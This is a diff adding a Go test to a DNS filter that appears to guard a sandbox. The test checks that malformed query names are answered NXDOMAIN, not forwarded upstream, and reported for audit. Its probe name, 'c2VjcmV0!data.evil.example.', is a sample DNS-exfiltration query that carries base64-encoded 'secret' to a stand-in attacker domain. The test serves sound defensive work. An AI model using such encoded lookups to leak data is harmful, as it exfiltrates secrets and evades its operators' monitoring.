@@ -79,6 +79,34 @@ func TestReviewDNSNonexistentNameNotCached(t *testing.T) {
 	}
 }
 
+// TestReviewDNSMalformedNameRefusedSilently: a query whose name is not a
+// valid host name (NormalizeName refuses it: a "!", a space, a byte
+// above 0x7f, a label starting with "-") gets NXDOMAIN and no refusal is
+// reported: the issue asks that every refusal be reported with the name,
+// and a sandbox probing with such names leaves no trace in --json-status
+// or the audit. Nothing leaves the host (no upstream query): LOW.
+func TestReviewDNSMalformedNameRefusedSilently(t *testing.T) {
+	up := newFakeUpstream(t)
+	var mu sync.Mutex
+	var refused []string
+	f := newFilter(t, up, []string{"*.up.test"}, nil, nil, func(c *Config) {
+		c.OnRefusal = func(r *Refusal) { mu.Lock(); refused = append(refused, r.Target()); mu.Unlock() }
+	})
+	defer f.Close()
+	srv := serve(t, f)
+	if rc, _ := query(t, srv, "c2VjcmV0!data.evil.example.", dnsmessage.TypeA, false); rc != dnsmessage.RCodeNameError {
+		t.Fatalf("rcode %v", rc)
+	}
+	if n := up.queries.Load(); n != 0 {
+		t.Fatalf("%d upstream queries for a malformed name", n)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(refused) == 0 {
+		t.Errorf("a lookup of a malformed name was refused (NXDOMAIN) without any refusal reported")
+	}
+}
+
 // echConfig returns one ECHConfig (draft-ietf-tls-esni, version 0xfe0d)
 // for an X25519 key, with publicName as the client-facing server's name,
 // and the private key.
